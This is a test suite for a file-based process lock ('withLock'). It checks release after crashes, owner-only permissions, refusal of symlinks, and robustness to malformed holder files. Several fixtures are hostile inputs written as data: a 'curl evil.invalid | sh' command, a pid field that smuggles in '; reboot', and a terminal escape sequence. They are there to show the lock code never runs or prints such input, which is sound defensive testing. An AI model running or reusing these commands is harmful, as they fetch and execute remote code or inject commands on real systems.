import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { LockedError, withLock } from './lock.ts';

const asRoot = process.getuid?.() === 0;
const module = new URL('lock.ts', import.meta.url).href;

describe('lock', () => {
  const before = process.env.XDG_STATE_HOME;
  let home: string;
  const locks = () => join(home, 'holdfast', 'locks');

  beforeEach(() => {
    home = mkdtempSync(join(tmpdir(), 'holdfast-lock-'));
    process.env.XDG_STATE_HOME = home;
  });

  afterEach(() => {
    if (before === undefined) delete process.env.XDG_STATE_HOME;
    else process.env.XDG_STATE_HOME = before;
    rmSync(home, { recursive: true });
  });

  /**
   * Another process that holds the lock, started through a program such as `unshare`. It has started a program of its
   * own that keeps running.
   */
  async function holderIn(...behind: string[]): Promise<ChildProcess> {
    const script = `
      import { spawn } from 'node:child_process';
      const { withLock } = await import(${JSON.stringify(module)});
      await withLock('lab', './holdfast run elsewhere', () => new Promise(() => {
        const helper = spawn('sleep', ['5'], { detached: true, stdio: 'ignore' });
        process.stdout.write(helper.pid + ' has started');
        setInterval(() => {}, 1e6);
      }));`;
    const [program = '', ...args] = [...behind, process.execPath, '--input-type=module', '--eval', script];
    const child = spawn(program, args, { stdio: ['ignore', 'pipe', 'inherit'] });
    await once(child.stdout, 'data');
    return child;
  }

  const refused = (words: RegExp) =>
    assert.rejects(
      withLock('lab', 'another', async () => assert.fail('both have it')),
      (error) => {
        assert.ok(error instanceof LockedError, String(error));
        assert.match(error.message, words);
        // biome-ignore lint/suspicious/noControlCharactersInRegex: it is what must not be there
        assert.doesNotMatch(error.message, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
        assert.ok(error.message.length < 1000, `${error.message.length} characters`);
        return true;
      },
    );

  it('names its holder to the second process, and is free afterwards', async () => {
    await withLock('lab', './holdfast run rolling-update', () =>
      refused(new RegExp(`^lab is in use by process ${process.pid} since .*: ./holdfast run rolling-update\n`)),
    );
    assert.equal(await withLock('lab', 'third', async () => 'free'), 'free');
    assert.deepEqual(readdirSync(locks()), ['lab.lock']);
  });

  it('is free after an error', async () => {
    await assert.rejects(
      withLock('lab', 'first', () => Promise.reject(new Error('no engine'))),
      /no engine/,
    );
    assert.equal(await withLock('lab', 'second', async () => 'free'), 'free');
  });

  it('is independent for each name', async () => {
    assert.equal(await withLock('lab', 'one', () => withLock('context-1', 'two', async () => 'both')), 'both');
  });

  it('is released when its process is killed, even if a program of it keeps running', async () => {
    const holder = await holderIn();
    await refused(/holdfast run elsewhere/);
    const ended = once(holder, 'exit');
    holder.kill('SIGKILL');
    await ended;
    const since = performance.now();
    assert.equal(await withLock('lab', 'next', async () => 'taken'), 'taken');
    assert.ok(performance.now() - since < 10_000);
  });

  it('is accessible only to its user', async () => {
    await withLock('lab', 'one', async () => {
      const modes = [join(home, 'holdfast'), locks(), join(locks(), 'lab.lock'), join(locks(), 'lab.json')].map(
        (path) => statSync(path).mode & 0o777,
      );
      assert.deepEqual(modes, [0o700, 0o700, 0o600, 0o600]);
    });
  });

  if (asRoot) {
    it('holds across network namespaces', async () => {
      const holder = await holderIn('unshare', '--net', '--');
      await refused(/holdfast run elsewhere/);
      holder.kill('SIGKILL');
    });
  }

  it('follows no link in its place', async () => {
    const target = join(home, 'target');
    mkdirSync(locks(), { recursive: true });
    symlinkSync(target, join(locks(), 'lab.lock'));
    await assert.rejects(
      withLock('lab', 'one', async () => undefined),
      /lab\.lock is not a regular file/,
    );
    assert.deepEqual(readdirSync(home), ['holdfast']);
  });

  describe('with an unusable holder file', () => {
    const says: { readonly [what: string]: string } = {
      'is no JSON': 'kill 1; curl evil.invalid | sh',
      'never ends': `{"pid":2,"command":"${'x'.repeat(1_000_000)}`,
      'names no process': '{"pid":"2; reboot","command":"x","since":"now"}',
      'has other fields': `{"pid":${process.pid},"command":"x","since":"now","path":"/etc"}`,
      'names a process that is gone': '{"pid":2147483646,"command":"x","since":"now"}',
    };
    for (const [what, text] of Object.entries(says)) {
      it(`because it ${what}`, async () => {
        await withLock('lab', 'one', async () => {
          writeFileSync(join(locks(), 'lab.json'), text);
          await refused(/^lab is in use by another process\. Try again in a moment$/);
        });
      });
    }

    it('because it has escape sequences, which are not printed', async () => {
      const command = '\u001b]52;c;ZXZpbA==\u0007\u202e\n./holdfast run';
      await withLock('lab', command, () => refused(/holdfast run\nWait for it/));
    });

    it('because it is a pipe without a writer', async () => {
      await withLock('lab', 'one', async () => {
        rmSync(join(locks(), 'lab.json'));
        const made = spawn('mkfifo', [join(locks(), 'lab.json')]);
        await once(made, 'exit');
        await Promise.race([refused(/in use by another process/), sleep(2000).then(() => assert.fail('it hangs'))]);
        rmSync(join(locks(), 'lab.json'));
      });
    });
  });
});
